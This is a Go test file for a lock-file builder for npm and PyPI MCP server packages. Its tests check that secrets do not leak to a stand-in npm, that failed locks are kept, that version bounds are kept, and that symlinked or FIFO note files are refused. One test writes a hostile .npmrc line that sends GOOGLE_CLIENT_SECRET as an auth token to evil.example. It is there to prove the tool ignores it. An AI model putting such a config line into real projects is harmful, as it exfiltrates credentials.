package main

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/lanyardhq/lanyard/presets"
)

// standIn puts a program of that name before all others. It notes its environment
// and what lies beside it, and then does what the script says.
func standIn(t *testing.T, name, script string) (noted string) {
	t.Helper()
	bin := t.TempDir()
	noted = filepath.Join(bin, "noted")
	text := "#!/bin/sh\n{ env; ls -A; pwd; } > '" + noted + "'\n" + script + "\n"
	if err := os.WriteFile(filepath.Join(bin, name), []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
	return noted
}

func content(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestLockIsMadeElsewhere: what lies in somebody's overlay, such as settings of
// npm's that send a variable to a registry of theirs, is not read, and none of our
// secrets are there to be sent.
func TestLockIsMadeElsewhere(t *testing.T) {
	t.Setenv("GOOGLE_CLIENT_SECRET", "canary-secret")
	t.Setenv("NPM_CONFIG_REGISTRY", "https://npm.example")
	noted := standIn(t, "npm", `echo '{"lockfileVersion":3}' > package-lock.json`)
	into := t.TempDir()
	dir := filepath.Join(into, "locks", "weather")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{".npmrc": "//evil.example/:_authToken=${GOOGLE_CLIENT_SECRET}\n", "package-lock.json": "old"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	program := presets.Program{Registry: presets.RegistryNPM, Package: "@acme/weather-mcp", Version: "1.2.3"}
	if err := makeLock(t.Context(), "weather", program, into); err != nil {
		t.Fatal(err)
	}
	saw := content(t, noted)
	if strings.Contains(saw, "canary-secret") || strings.Contains(saw, ".npmrc") || strings.Contains(saw, dir) || !strings.Contains(saw, "NPM_CONFIG_REGISTRY=https://npm.example") {
		t.Errorf("npm saw\n%s", saw)
	}
	if lock := content(t, filepath.Join(dir, "package-lock.json")); lock != "{\"lockfileVersion\":3}\n" {
		t.Errorf("the lock: %s", lock)
	}
	if manifest := content(t, filepath.Join(dir, "package.json")); !strings.Contains(manifest, `"@acme/weather-mcp": "1.2.3"`) {
		t.Errorf("the manifest: %s", manifest)
	}
}

// TestLockThatFails leaves the lock that there was.
func TestLockThatFails(t *testing.T) {
	standIn(t, "npm", "echo no such package >&2; exit 1")
	into := t.TempDir()
	old := filepath.Join(into, "locks", "weather", "package-lock.json")
	if err := os.MkdirAll(filepath.Dir(old), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(old, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	err := makeLock(t.Context(), "weather", presets.Program{Registry: presets.RegistryNPM, Package: "weather", Version: "1.0.0"}, into)
	if err == nil || !strings.Contains(err.Error(), "npm could not lock weather 1.0.0") || !strings.Contains(err.Error(), "no such package") || content(t, old) != "old" {
		t.Errorf("%v; the lock: %s", err, content(t, old))
	}
}

// TestLockKeepsBounds: requirements.in that is there says what is wanted.
func TestLockKeepsBounds(t *testing.T) {
	standIn(t, "uv", "{ echo '# of'; cat requirements.in; } > requirements.txt")
	into := t.TempDir()
	program := presets.Program{Registry: presets.RegistryPyPI, Package: "weather-mcp", Version: "2.0"}
	dir := filepath.Join(into, "locks", "weather")
	if err := makeLock(t.Context(), "weather", program, into); err != nil || content(t, filepath.Join(dir, "requirements.txt")) != "# of\nweather-mcp==2.0\n" {
		t.Fatalf("%v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "requirements.in"), []byte("weather-mcp==2.0\nhttpx<1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := makeLock(t.Context(), "weather", program, into); err != nil || content(t, filepath.Join(dir, "requirements.txt")) != "# of\nweather-mcp==2.0\nhttpx<1\n" {
		t.Errorf("%v: %s", err, content(t, filepath.Join(dir, "requirements.txt")))
	}
}

// TestNotesOfTheServer: it may put anything in their place.
func TestNotesOfTheServer(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	real := filepath.Join(dir, "real")
	if err := os.WriteFile(real, []byte("variable A\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if data, err := readNotes(real); err != nil || string(data) != "variable A\n" {
		t.Errorf("%q, %v", data, err)
	}
	link, fifo := filepath.Join(dir, "link"), filepath.Join(dir, "fifo")
	if err := os.Symlink(real, link); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{link, fifo, dir} {
		if data, err := readNotes(path); err == nil {
			t.Errorf("%s: %q", path, data)
		}
	}
}
